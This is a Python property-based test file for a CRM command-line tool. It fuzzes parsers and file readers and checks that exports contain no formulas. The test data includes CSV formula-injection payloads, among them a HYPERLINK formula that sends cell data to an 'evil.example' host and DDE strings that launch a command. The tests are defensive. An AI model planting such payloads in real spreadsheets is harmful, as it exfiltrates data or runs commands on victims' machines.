"""Fuzzing: whatever text or bytes arrive, the parsers and readers fail only with the project's own error.

"Only the project's own error" means ``crmcli.errors.CrmError`` (ParseError, ReadError, UsageError
are subclasses): the CLI boundary turns it into one line on stderr and exit 1/2. Anything else
(IndexError, UnicodeDecodeError, csv.Error, a calamine panic, ...) would be a traceback.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from crmcli import normalize, vocab
from crmcli.errors import CrmError
from crmcli.store import sqlite

TODAY = dt.date(2026, 11, 26)

# Text that looks like what people type into CRM cells, and text that does not.
cellish = st.text(alphabet="0123456789+-−()./:,; 年月日号转xX万亿元¥eETt分机#'\"=@*（）　\t\r\n", max_size=30)
anything = st.one_of(
    st.text(),
    cellish,
    st.binary().map(lambda b: b.decode("utf-8", "surrogateescape")),
    st.binary().map(lambda b: b.decode("gb18030", "replace")),
    st.binary().map(lambda b: b.decode("latin-1")),
    st.floats(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.none(),
    st.booleans(),
    st.dates(),
    st.datetimes(),
    st.binary(max_size=40),
)


def only_own_errors(fn: Callable[[], Any]) -> Any:
    try:
        return fn()
    except CrmError:
        return None
    # Any other exception propagates and fails the test, with Hypothesis' minimal example.


PARSERS: dict[str, Callable[[Any], Any]] = {
    "clean_text": normalize.clean_text,
    "name_key": normalize.name_key,
    "phone_key": normalize.phone_key,
    "clean_phone": normalize.clean_phone,
    "parse_money": normalize.parse_money,
    "parse_date": lambda v: normalize.parse_date(v, TODAY),
}


@settings(max_examples=400, deadline=None)
@given(anything)
def test_value_parsers_raise_only_crm_errors(value: object) -> None:
    for fn in PARSERS.values():
        only_own_errors(lambda fn=fn: fn(value))  # type: ignore[misc]
    assert isinstance(normalize.is_empty(value), bool)


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(), cellish))
def test_text_helpers_are_total(text: str) -> None:
    masked = normalize.mask_phone(text)
    assert "****" in masked
    assert isinstance(normalize.mask_email(text), str)
    assert normalize.looks_sensitive(text) in (None, "id_number", "bank_card")


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(sorted(vocab.FIELDS)), st.one_of(st.text(), st.sampled_from([a for f in vocab.FIELDS for a in vocab.FIELDS[f]])))
def test_vocab_parse_raises_only_crm_errors(field: str, text: str) -> None:
    key = only_own_errors(lambda: vocab.parse(field, text))
    assert key is None or key in vocab.FIELDS[field]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.text(max_size=20), st.floats(), st.none(), st.integers()), max_size=12), st.lists(st.text(max_size=15), max_size=3))
def test_header_matcher_raises_only_crm_errors(cells: list[object], specs: list[str]) -> None:
    from crmcli.io import columns

    mapping = only_own_errors(lambda: columns.parse_map(specs)) or {}
    for cell in cells:
        columns.norm_header(cell)
        columns.field_of(cell)
    assert columns.score(cells, mapping) >= 0
    header = only_own_errors(lambda: columns.match(cells, mapping))
    if header is not None:
        assert header.width <= len(cells)


def _read_all(path: Path) -> list[list[object]] | None:
    """Open ``path`` like ``crm import`` does and read every row; None when refused with our error."""
    from crmcli.io import readers

    def go() -> list[list[object]]:
        table = readers.open_table(path)
        try:
            located = readers.locate_header(table, {})
            return [row for _, row in located.data]
        finally:
            table.close()

    return only_own_errors(go)


@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.one_of(
        st.binary(max_size=600),
        st.text(max_size=300).map(lambda t: t.encode("utf-8")),
        st.text(max_size=200).map(lambda t: ("客户名称,联系电话\n" + t).encode("gb18030", "replace")),
        st.text(max_size=200).map(lambda t: ("\ufeff客户名称,联系电话\r\n" + t).encode("utf-8", "surrogatepass")),
        st.text(max_size=200).map(lambda t: ("客户名称\t联系电话\n" + t).encode("utf-16")),
        st.binary(max_size=300).map(lambda b: "客户名称,联系电话\n".encode() + b),
    ),
    st.sampled_from([".csv", ".tsv", ".txt", ".xlsx", ".xls", ".ods"]),
)
def test_csv_reader_raises_only_crm_errors(data: bytes, suffix: str) -> None:
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / f"in{suffix}"
        path.write_bytes(data)
        _read_all(path)


def _zip_bytes(parts: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, body in parts.items():
            zf.writestr(name, body)
    return buf.getvalue()


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.dictionaries(
        st.sampled_from(["[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/_rels/workbook.xml.rels", "content.xml"]),
        st.one_of(st.binary(max_size=200), st.text(max_size=200).map(str.encode), st.just(b"<?xml version='1.0'?><workbook/>")),
        max_size=5,
    ),
    st.integers(min_value=0, max_value=400),
)
def test_workbook_reader_raises_only_crm_errors(parts: dict[str, bytes], cut: int) -> None:
    """Zips that claim to be workbooks, whole or truncated, are refused with our own error."""
    data = _zip_bytes(parts)
    with tempfile.TemporaryDirectory() as d:
        for blob in (data, data[: max(4, len(data) - cut)]):
            path = Path(d) / "book.xlsx"
            path.write_bytes(blob)
            _read_all(path)


# Cells a CSV file can carry (no NUL, which csv cannot round-trip; a cell is never only spaces here).
csv_cell = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=25)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(csv_cell, min_size=2, max_size=2), min_size=1, max_size=8), st.sampled_from(["utf-8-sig", "utf-8", "gb18030", "utf-16"]))
def test_csv_reader_returns_exactly_what_was_written(rows: list[list[str]], encoding: str) -> None:
    """A CSV written by Python's csv module (any encoding we accept) reads back cell for cell."""
    try:
        ("客户名称联系电话" + "".join(c for r in rows for c in r)).encode(encoding)
    except UnicodeEncodeError:
        return  # e.g. characters GB18030 cannot encode: not a file anyone can have
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow(["客户名称", "联系电话"])
    writer.writerows(rows)
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "in.csv"
        path.write_bytes(buf.getvalue().encode(encoding))
        got = _read_all(path)
    assert got is not None
    expected = [r for r in rows if r != ["", ""]]
    got_rows = [[str(c) for c in r] for r in got if any(str(c) for c in r)]
    assert got_rows == [r for r in expected if any(r)]


@pytest.mark.parametrize("field", sorted(vocab.FIELDS))
def test_vocab_parse_accepts_every_documented_alias(field: str) -> None:
    for key in vocab.FIELDS[field]:
        assert vocab.parse(field, key) == key
        assert vocab.parse(field, vocab.ZH_LABELS[field][key]) == key


# --------------------------------------------------------------------------- export: no formula, ever

FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\r\n", "\n=", " =", "'=", "==", "=-", "-=", "+=", "@@", "＝", "＋", "－", "＠"]
NASTY = [
    "=1+1", '=HYPERLINK("http://evil.example/?q="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1,1)", "+1-1", "-1",
    "=", "-", "+", "@", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "\t=1", "\r=1", "-2+3", "+86 138 1234 5678",
]
stored_text = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=20)
formula_like = st.one_of(
    st.builds(lambda p, t: p + t, st.sampled_from(FORMULA_PREFIXES), stored_text),
    st.sampled_from(NASTY),
    stored_text,
)


@pytest.fixture(scope="module")
def empty_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database at the current schema, to copy for each example."""
    from crmcli import store

    path = tmp_path_factory.mktemp("template") / "crm.db"
    sqlite.get_engine(path)
    store.dispose_all()
    return path


def _store_raw(path: Path, texts: list[str]) -> None:
    """Put ``texts`` into every free-text column as they are (no cleaning: export must cope with anything)."""
    import sqlite3

    con = sqlite3.connect(path)
    for i, t in enumerate(texts):
        cur = con.execute(
            "INSERT INTO customer (code, name, name_key, phone, phone_key, contact, title, email, industry, source,"
            " owner, need, notes, created_at) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, '2026-11-01')",
            (f"C2026110{i:02d}", t or "x", f"k{i}", t or "13800000000", f"1380000{i:04d}", t, t, t, t, t, t, t, t),
        )
        cid = cur.lastrowid
        if t:
            con.execute("INSERT INTO tag (customer_id, name) VALUES (?, ?)", (cid, t))
        con.execute(
            "INSERT INTO follow_up (customer_id, date, content, \"by\", next_plan) VALUES (?, '2026-11-02', ?, ?, ?)",
            (cid, t, t, t),
        )
    con.commit()
    con.close()


def _xlsx_has_no_formula(path: Path) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                # A text cell may say "=1+1" (it shows as typed); only a formula cell could run.
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                xml = zf.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.lists(formula_like, min_size=1, max_size=6))
@example(texts=["\r=1", "abc\r=1+1", "x\r\n@SUM(1)", "\t=1"])  # a bare CR once split a stdout row before "="
def test_exported_csv_and_xlsx_never_hold_a_formula(empty_db: Path, texts: list[str]) -> None:
    import shutil

    from typer.testing import CliRunner

    from crmcli import store
    from crmcli.cli import app

    runner = CliRunner()
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "crm.db"
        shutil.copy(empty_db, path)
        _store_raw(path, texts)
        for fmt in ("csv", "xlsx"):
            out = Path(d) / f"out.{fmt}"
            r = runner.invoke(app, ["--db", str(path), "export", str(out)])
            assert r.exit_code == 0, r.output
        r = runner.invoke(app, ["--db", str(path), "export", "-", "--format", "csv"])
        assert r.exit_code == 0
        store.dispose_all()
        for text in (Path(d, "out.csv").read_bytes().decode("utf-8-sig"), r.stdout):
            for row in csv.reader(io.StringIO(text, newline="")):
                for cell in row:
                    assert not cell or cell[0] not in "=+-@\t\r", (cell, texts)
        _xlsx_has_no_formula(Path(d) / "out.xlsx")


# --------------------------------------------------------------------------- export -> import is identity

# Free text as a person could type it and crm stores it: printable, no NUL/control characters,
# already in its stored form (clean_text is idempotent on it), including formula-like text.
_typed = st.text(st.characters(blacklist_categories=("Cs", "Cc", "Co", "Cn", "Zl", "Zp")), min_size=1, max_size=16)


def _stored(text: str) -> str | None:
    return normalize.clean_text(text)


free_text = st.one_of(_typed, st.builds(lambda p, t: p + t, st.sampled_from(["=", "+", "-", "@", "'"]), _typed)).map(_stored)
customer = st.fixed_dictionaries(
    {
        "name": free_text.filter(lambda t: t is not None and not normalize.is_empty(t)),
        "contact": free_text,
        "title": free_text,
        "industry": free_text,
        "source": free_text,
        "owner": free_text,
        "need": free_text,
        "notes": free_text,
        "level": st.sampled_from(vocab.LEVELS),
        "stage": st.sampled_from(vocab.STAGES),
        "amount": st.one_of(st.none(), st.integers(min_value=1, max_value=10**9), st.decimals(min_value=0, max_value=10**7, places=2).map(str)),
        "tags": st.lists(free_text.filter(lambda t: t is not None and ";" not in t and "," not in t), max_size=2, unique=True),
        "email": st.one_of(st.none(), st.from_regex(r"[a-z][a-z0-9._]{0,8}@[a-z]{1,8}\.(com|cn)", fullmatch=True)),
    }
)

ROUND_TRIP_KEYS = (
    "code", "name", "contact", "title", "phone", "email", "industry", "source", "level", "stage",
    "owner", "need", "tags", "notes", "amount", "created_at",
)  # fmt: skip


def _add_args(i: int, c: dict[str, Any]) -> list[str]:
    # --opt=value and "--" before NAME: values may start with "-" ("-0", "--x").
    args = ["add", f"--phone=13{i:09d}", f"--level={c['level']}", f"--stage={c['stage']}"]
    for key in ("contact", "title", "industry", "source", "owner", "need", "email"):
        if c[key] is not None:
            args.append(f"--{key}={c[key]}")
    if c["notes"] is not None:
        args.append(f"--note={c['notes']}")
    if c["amount"] is not None:
        args.append(f"--amount={c['amount']}")
    args += [f"--tag={tag}" for tag in c["tags"]]
    return [*args, "--", c["name"]]


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.lists(customer, min_size=1, max_size=4, unique_by=lambda c: normalize.name_key(c["name"])), st.sampled_from(["csv", "xlsx"]), st.sampled_from(["en", "zh"]))
def test_export_then_import_is_identity(empty_db: Path, customers: list[dict[str, Any]], fmt: str, lang: str) -> None:
    import json
    import shutil

    from typer.testing import CliRunner

    from crmcli import store
    from crmcli.cli import app

    runner = CliRunner()
    with tempfile.TemporaryDirectory() as d:
        a, b = Path(d) / "a.db", Path(d) / "b.db"
        shutil.copy(empty_db, a)
        shutil.copy(empty_db, b)

        def crm(*args: str) -> str:
            r = runner.invoke(app, ["--lang", lang, *args])
            assert r.exit_code == 0, (args, r.stdout, r.stderr)
            return str(r.stdout)

        for i, c in enumerate(customers):
            crm("--db", str(a), *_add_args(i, c))
        out = Path(d) / f"export.{fmt}"
        crm("--db", str(a), "export", str(out))
        crm("--db", str(b), "import", str(out), "--format", "json")
        before = json.loads(crm("--db", str(a), "list", "--format", "json"))
        after = json.loads(crm("--db", str(b), "list", "--format", "json"))
        store.dispose_all()
    assert [{k: r[k] for k in ROUND_TRIP_KEYS} for r in after] == [{k: r[k] for k in ROUND_TRIP_KEYS} for r in before]


@settings(max_examples=500, deadline=None)
@given(st.one_of(st.text(), st.builds(lambda q, p, t: q + p + t, st.text("'", max_size=3), st.sampled_from(FORMULA_PREFIXES), st.text(max_size=5))))
def test_csv_neutralisation_is_safe_and_undone_exactly(text: str) -> None:
    """The export's leading "'" stops every formula, and the import takes off exactly what the export added."""
    from crmcli.io.writers import neutralize
    from crmcli.services.importer.cells import _unquote

    out = neutralize(text)
    assert not out or out[0] not in "=+-@\t\r"
    assert _unquote(out) == text
